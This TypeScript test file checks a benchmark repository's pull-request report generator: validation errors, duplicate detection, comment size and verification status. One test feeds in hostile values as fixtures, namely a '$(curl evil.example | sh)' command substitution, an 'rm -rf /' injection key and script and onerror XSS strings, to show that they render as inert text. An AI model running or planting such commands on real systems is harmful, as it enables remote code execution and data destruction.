import assert from 'node:assert/strict';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { test } from 'node:test';
import { REPORT_MARKER, renderReport } from '../../../runners/community/pr-report.ts';
import { buildReportInput } from '../../../runners/community/report-input.ts';
import { REPO_ROOT, runCli } from '../../helpers/cli.ts';
import { seedHubTemplate } from '../../helpers/hub-cache.ts';
import { linkTriggers, proseText, renderGfm, tagNames } from '../../helpers/gfm.ts';
import { paperSubmission, tempRepo } from '../../helpers/community-fixtures.ts';

const ALLOWED_TAGS = ['h3', 'h4', 'p', 'strong', 'code', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li', 'sub'];

/** The report rendered as GitHub would: only our own structure, nothing that links or mentions. */
function assertSafe(md: string): string {
  const html = renderGfm(md);
  const extra = tagNames(html).filter((t) => !ALLOWED_TAGS.includes(t));
  assert.deepEqual(extra, [], `unexpected HTML elements in the report:\n${html}`);
  assert.deepEqual(linkTriggers(proseText(html)), [], `a link or mention trigger reached the report prose:\n${html}`);
  for (const rowHtml of html.match(/<tr>[\s\S]*?<\/tr>/g) ?? []) assert.equal((rowHtml.match(/<t[dh]>/g) ?? []).length, 2, `a table row lost its shape: ${rowHtml}`);
  return html;
}

async function report(files: Record<string, Record<string, unknown> | string>, changed: string[]) {
  const root = tempRepo(files);
  const input = await buildReportInput(changed, root, { plan: false });
  return { input, md: renderReport(input) };
}

test('valid single submission (the real file, through the CLI): model, revision, serving hints and serve command', () => {
  const r = runCli(['pr-report', '--changed', 'submissions/zai-org/glm-4.5-air.yaml', '--no-plan']);
  assert.equal(r.code, 0, r.stderr);
  assert.ok(r.stdout.startsWith(REPORT_MARKER));
  assert.match(r.stdout, /✅ \*\*1 changed file valid\.\*\*/);
  assert.match(r.stdout, /\| Model \| ` zai-org\/GLM-4\.5-Air ` \|/);
  assert.match(r.stdout, /\| Revision \| ` main ` ⚠️ unpinned/);
  assert.match(r.stdout, /tensor parallel 4, max model length 32,768/);
  assert.match(r.stdout, /```sh\nvllm serve zai-org\/GLM-4\.5-Air --revision main --tensor-parallel-size 4 --max-model-len 32768 --served-model-name glm-4\.5-air /);
  assertSafe(r.stdout);
});

test('invalid submission: every error as `file: field: message`, exit 1', async () => {
  const bad = paperSubmission();
  delete bad.license;
  bad.serving.tensor_parallel_size = 'eight';
  bad.params.active_b = -3;
  bad.surprise = true;
  const { input, md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': bad }, ['submissions/qwen/qwen3.5-9b.yaml']);
  const fields = input.errors.map((e) => e.field).sort();
  assert.deepEqual(fields, ['license', 'params.active_b', 'serving.tensor_parallel_size', 'surprise']);
  for (const f of fields) assert.match(md, new RegExp(`^- \` submissions/qwen/qwen3\\.5-9b\\.yaml \`: \` ${f.replace(/\./g, '\\.')} \`: \\S`, 'm'));
  assert.match(md, /❌ \*\*4 problems\*\* in 1 file/);
  assert.doesNotMatch(md, /What will run/);
  assertSafe(md);

  const root = tempRepo({ 'submissions/qwen/qwen3.5-9b.yaml': bad });
  const r = runCli(['pr-report', '--changed', 'submissions/qwen/qwen3.5-9b.yaml', '--no-plan'], { cwd: root });
  assert.equal(r.code, 1);
  assert.match(r.stdout, /surprise/);
});

test('multi-file change: errors for the broken file, summaries for the valid ones, cross-file duplicates caught, other files ignored', async () => {
  const a = paperSubmission('submissions/qwen/qwen3.5-0.8b.yaml');
  const b = paperSubmission('submissions/openai/gpt-oss-20b.yaml');
  const dup = { ...paperSubmission('submissions/qwen/qwen3.5-2b.yaml'), id: 'qwen3.5-2b-again' }; // same repo + revision as c
  const c = paperSubmission('submissions/qwen/qwen3.5-2b.yaml');
  const broken = 'id: [unclosed\n';
  const { input, md } = await report(
    {
      'submissions/qwen/qwen3.5-0.8b.yaml': a,
      'submissions/openai/gpt-oss-20b.yaml': b,
      'submissions/qwen/qwen3.5-2b.yaml': c,
      'submissions/qwen/qwen3.5-2b-again.yaml': dup,
      'submissions/acme/broken.yaml': broken,
      'README.md': '# hi\n',
    },
    ['submissions/qwen/qwen3.5-0.8b.yaml', 'submissions/openai/gpt-oss-20b.yaml', 'submissions/qwen/qwen3.5-2b-again.yaml', 'submissions/acme/broken.yaml', 'submissions/acme/deleted.yaml', 'README.md'],
  );
  assert.deepEqual(input.checked.length, 4);
  assert.deepEqual(input.missing, ['submissions/acme/deleted.yaml']);
  assert.deepEqual(input.ignored, ['README.md']);
  assert.ok(input.errors.some((e) => e.file === 'submissions/acme/broken.yaml' && e.field === '(file)' && /invalid YAML/.test(e.message)));
  assert.ok(input.errors.some((e) => e.file === 'submissions/qwen/qwen3.5-2b-again.yaml' && e.field === 'hf' && /already submitted/.test(e.message)));
  assert.deepEqual(input.submissions.map((s) => s.value.id).sort(), ['gpt-oss-20b', 'qwen3.5-0.8b']);
  assert.match(md, /\*\*Valid submissions in this change\*\*/);
  assert.match(md, /#### Qwen3\\\.5 0\\\.8B/);
  assert.match(md, /#### gpt\\-oss 20B/);
  assert.match(md, /Removed or renamed: ` submissions\/acme\/deleted\.yaml `/);
  assert.match(md, /Not checked \(not a userturn data file\): 1 file/);
  assertSafe(md);
});

test('no data files changed: says so', async () => {
  const { md } = await report({ 'README.md': 'x' }, ['README.md', 'src/pages/index.astro']);
  assert.match(md, /nothing to validate/);
  assertSafe(md);
});

test('injection: Markdown, HTML, links, images and mentions in submission fields stay inert text', async () => {
  const evil = paperSubmission();
  evil.display_name = '[win](https://evil.example) ![x](https://e.example/p.png) @octocat <img src=x>';
  evil.notes = '<script>alert(1)</script> ``` | broken | table | www.evil.example #1';
  evil.submitter = { github: 'octocat', name: '@admin <b>bold</b>' };
  const { input, md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': evil }, ['submissions/qwen/qwen3.5-9b.yaml']);
  assert.equal(input.errors.length, 0);
  const html = assertSafe(md);
  assert.match(html, /<h4>.*\[win\].*octocat/); // shown, as text

  // Malicious keys and values that fail validation end up in error lines: still inert.
  const worse: Record<string, any> = paperSubmission();
  worse['<img src=x onerror=alert(1)>'] = 'x';
  worse['[a](https://evil.example)`|`'] = 1;
  worse['@octocat'] = 1;
  worse.hf.revision = '`$(curl evil.example | sh)`';
  worse.serving.engine_args = { 'trust-remote-code': true, 'x;rm -rf /': 'a b' };
  const r2 = await report({ 'submissions/qwen/qwen3.5-9b.yaml': worse }, ['submissions/qwen/qwen3.5-9b.yaml']);
  assert.ok(r2.input.errors.length >= 5, JSON.stringify(r2.input.errors));
  assertSafe(r2.md);

  // A hostile file name (org folder) lands in code spans only.
  const r3 = await report({ 'submissions/@octocat/[x](https:evil).yaml': paperSubmission() }, ['submissions/@octocat/[x](https:evil).yaml']);
  assert.ok(r3.input.errors.length >= 1);
  assertSafe(r3.md);
});

test('a submission whose engine_args are not on the allowlist is reported as an error (serve-cmd refuses it)', async () => {
  const sub = paperSubmission();
  sub.serving.engine_args = { 'trust-remote-code': true };
  const { input, md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': sub }, ['submissions/qwen/qwen3.5-9b.yaml']);
  assert.equal(input.submissions.length, 0);
  assert.equal(input.errors.length, 1);
  assert.equal(input.errors[0]!.field, 'serving.engine_args.trust-remote-code');
  assert.match(md, /not on the vllm allowlist/);
});

test('the report stays under GitHub’s comment limit with hundreds of errors', async () => {
  const bad: Record<string, any> = paperSubmission();
  for (let i = 0; i < 400; i++) bad[`unknown_key_${i}_${'x'.repeat(60)}`] = i;
  const { md } = await report({ 'submissions/qwen/qwen3.5-9b.yaml': bad }, ['submissions/qwen/qwen3.5-9b.yaml']);
  assert.ok(md.length < 65_536);
  assert.match(md, /and 200 more/);
});

const DATA = process.env.USERTURN_DATA_DIR ?? resolve(REPO_ROOT, '..', 'shared', 'datasets');
test('planned run: requests and tokens come from the runner\'s own --dry-run', { skip: existsSync(join(DATA, 'gsm8k')) ? false : `datasets not found at ${DATA}`, timeout: 120_000 }, () => {
  // Offline stand-in for the hub: the real Qwen3 template in the Hugging Face cache.
  const cache = mkdtempSync(join(tmpdir(), 'userturn-plan-'));
  seedHubTemplate(join(cache, 'hub'), 'Qwen/Qwen3.5-0.8B', 'main');
  const env = { USERTURN_CACHE_DIR: cache, USERTURN_DATA_DIR: DATA, HF_HUB_CACHE: join(cache, 'hub'), HF_HUB_OFFLINE: '1' };
  const r = runCli(['pr-report', '--changed', 'submissions/qwen/qwen3.5-0.8b.yaml'], { env });
  assert.equal(r.code, 0, r.stderr);
  const m = /\| Planned run \| ([\d,]+) requests, ([\d,]+) items, ~[\d.]+[kMB]? prompt tokens, at most [\d.]+[kMB]? completion tokens \(runner dry run\) \|/.exec(r.stdout);
  assert.ok(m, r.stdout);
  const dry = runCli(['run', 'submissions/qwen/qwen3.5-0.8b.yaml', '--dry-run'], { env });
  const total = /^total\s+(\d+)/m.exec(dry.stdout);
  assert.ok(total, dry.stdout + dry.stderr);
  assert.equal(m[1]!.replace(/,/g, ''), total[1]);
});

test('planned run: when the dry run cannot run, the comment says so instead of guessing', async () => {
  const root = tempRepo({ 'submissions/qwen/qwen3.5-9b.yaml': paperSubmission() });
  const input = await buildReportInput(['submissions/qwen/qwen3.5-9b.yaml'], root, { plan: true });
  // In a throwaway folder there is no suite file for the runner: the estimate is unavailable, with the reason.
  assert.equal(input.submissions[0]!.plan.kind, 'unavailable');
  assert.match(renderReport(input), /\| Planned run \| not available: /);
});

test('changed results: the report applies the verified rule and names the failed conditions', async () => {
  const gen = mkdtempSync(join(tmpdir(), 'userturn-synth-'));
  const { spawnSync } = await import('node:child_process');
  const r = spawnSync(process.execPath, [join(REPO_ROOT, 'bench/synthetic/generate.ts'), '--out', gen, '--models', '1', '--items', '2'], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  const { readdirSync, readFileSync } = await import('node:fs');
  const id = readdirSync(gen)[0]!;
  const summary = JSON.parse(readFileSync(join(gen, id, 'summary.json'), 'utf8'));
  const files: Record<string, string> = {
    // The suite as it is, but each dataset capped at the two items the generator wrote: a result has every item the
    // suite runs (complete_items) only when its item counts match the suite's.
    'benchmark/suites/v1.yaml': readFileSync(join(REPO_ROOT, 'benchmark/suites/v1.yaml'), 'utf8').replace(/^(\s+)item_cap: (?:null|\d+)$/gm, '$1item_cap: 2'),
    'benchmark/policy/approved-judges.yaml': readFileSync(join(REPO_ROOT, 'benchmark/policy/approved-judges.yaml'), 'utf8'),
    [`results/${id}/summary.json`]: JSON.stringify(summary),
    // A result of a real model is published for a committed submission (the generator's first model reuses its id).
    [`submissions/openai/${id}.yaml`]: readFileSync(join(REPO_ROOT, `submissions/openai/${id}.yaml`), 'utf8'),
  };
  const simulated = await report(files, [`results/${id}/summary.json`]);
  assert.equal(simulated.input.errors.length, 0, JSON.stringify(simulated.input.errors));
  assert.match(simulated.md, /\*\*Not verified\*\* — \d of 7 conditions fail:/);
  assert.match(simulated.md, /❌ Real model endpoint: Generated by the userturn simulator/);
  assertSafe(simulated.md);

  // The same result with every condition met is reported as verified.
  const ok = structuredClone(summary);
  ok.submission.hf.revision = 'f'.repeat(40);
  ok.submission.hf.pinned = true;
  Object.assign(ok.provenance, { simulated: false, runner_commit: 'e'.repeat(40), runner_dirty: false, suite_id: 'userturn', suite_version: 1 });
  ok.provenance.judges = [{ id: 'llm:gpt-5.4-mini:judge-v1', kind: 'llm', model: 'gpt-5.4-mini', prompt_version: 'judge-v1', temperature: 0, max_tokens: 400 }, ...ok.provenance.judges.filter((j: { id: string }) => j.id !== 'llm:gpt-5.4-mini:judge-v1')];
  ok.provenance.primary_judge = 'llm:gpt-5.4-mini:judge-v1';
  // Without figures on the judge controls the primary judge cannot make the result verified.
  const unmeasured = await report({ ...files, [`results/${id}/summary.json`]: JSON.stringify(ok) }, [`results/${id}/summary.json`]);
  assert.match(unmeasured.md, /\*\*Not verified\*\* — 1 of 7 conditions fail:/);
  assert.match(unmeasured.md, /❌ Judge passes the controls: .*no figures on the judge controls/);
  // With results/calibration.json scoring that judge within the thresholds (5% / 90%), every condition holds.
  const rate = (hits: number, n: number) => ({ n, hits, rate: hits / n, lo: 0, hi: Math.min(1, hits / n + 0.05) });
  const calibration = {
    format: 1,
    taxonomy_version: 1,
    judges: [{
      judge: ok.provenance.judges[0],
      sets: [],
      controls: { suite_id: 'userturn', suite_version: 2, seed: 1, confidence: 0.95, items_sha256: 'c'.repeat(64), judge_errors: 0, false_genuine: rate(20, 1000), positive_recall: rate(78, 80), negative_by_dataset: [] },
    }],
  };
  const verified = await report({ ...files, 'results/calibration.json': JSON.stringify(calibration), [`results/${id}/summary.json`]: JSON.stringify(ok) }, [`results/${id}/summary.json`]);
  assert.equal(verified.input.errors.length, 0, JSON.stringify(verified.input.errors));
  assert.match(verified.md, /\*\*Verified\*\*: every condition holds\./);
});

test('a pull request that changes the suite gets no dry-run estimate (the runner never plans with an unreviewed suite)', async () => {
  const { readFileSync } = await import('node:fs');
  const root = tempRepo({
    'submissions/qwen/qwen3.5-9b.yaml': paperSubmission(),
    'benchmark/suites/v1.yaml': readFileSync(join(REPO_ROOT, 'benchmark/suites/v1.yaml'), 'utf8'),
  });
  const input = await buildReportInput(['submissions/qwen/qwen3.5-9b.yaml', 'benchmark/suites/v1.yaml'], root, { plan: true });
  assert.equal(input.errors.length, 0, JSON.stringify(input.errors));
  assert.deepEqual(input.submissions[0]!.plan, { kind: 'unavailable', reason: 'this pull request changes the suite; the estimate waits for the reviewed suite' });
});
